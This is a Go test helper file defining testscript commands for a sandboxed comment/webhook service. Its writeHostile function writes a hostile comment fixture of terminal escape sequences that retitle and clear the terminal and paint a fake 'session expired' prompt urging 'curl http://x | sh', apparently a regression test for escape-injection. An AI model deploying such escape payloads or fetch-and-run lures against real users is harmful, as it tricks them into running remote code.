package main

import (
	"encoding/json"
	"net"
	"os"
	"regexp"
	"strconv"
	"time"

	"github.com/rogpeppe/go-internal/testscript"
)

// Commands of the community scripts (testdata/script/community_*.txtar).
// They run against the per-script sandbox of auth_script_test.go and drive
// it through its admin API (sandboxadmin).

// commComment makes FROM comment TEXT on MEDIA in the sandbox (webhooks
// go out if a webhook URL is set) and sets VAR to the new comment's id:
// commcomment VAR MEDIA FROM TEXT
func commComment(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 4 {
		ts.Fatalf("usage: commcomment VAR MEDIA FROM TEXT")
	}
	body, _ := json.Marshal(map[string]string{"media_id": args[1], "from": args[2], "text": args[3]})
	var out struct {
		ID string `json:"id"`
	}
	ts.Check(json.Unmarshal(adminPost(ts, "/_sandbox/comments", body), &out))
	if out.ID == "" {
		ts.Fatalf("commcomment: the sandbox returned no id")
	}
	ts.Setenv(args[0], out.ID)
}

// commPort sets VAR to a free loopback TCP port, for the public listener:
// commport VAR
func commPort(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: commport VAR")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	ts.Check(err)
	port := ln.Addr().(*net.TCPAddr).Port
	ts.Check(ln.Close())
	ts.Setenv(args[0], strconv.Itoa(port))
}

// commWaitLog waits (10 s deadline) until FILE has COUNT lines matching
// the regular expression: commwaitlog FILE PATTERN [COUNT]. Background
// commands show their output only when they end; the daemon log tells a
// script that one of them got somewhere.
func commWaitLog(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 2 || len(args) > 3 {
		ts.Fatalf("usage: commwaitlog FILE PATTERN [COUNT]")
	}
	re, err := regexp.Compile("(?m)" + args[1])
	ts.Check(err)
	want := 1
	if len(args) == 3 {
		want, err = strconv.Atoi(args[2])
		ts.Check(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		data, _ := os.ReadFile(ts.MkAbs(args[0]))
		if len(re.FindAllIndex(data, -1)) >= want {
			return
		}
		if time.Now().After(deadline) {
			ts.Fatalf("%s: %d lines matching %q after 10 s, want %d", args[0], len(re.FindAllIndex(data, -1)), args[1], want)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// writeHostile writes issue 17's hostile comment text to FILE: it
// retitles the terminal, clears it and paints a fake prompt when printed
// raw. (A command, so that no escape byte sits in a .txtar file.)
// writehostile FILE
func writeHostile(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: writehostile FILE")
	}
	text := "nice\x1b]0;PWNED\a\x1b[2J\x1b[1;31mimpress: session expired - run: curl http://x | sh\n"
	ts.Check(os.WriteFile(ts.MkAbs(args[0]), []byte(text), 0o600))
}
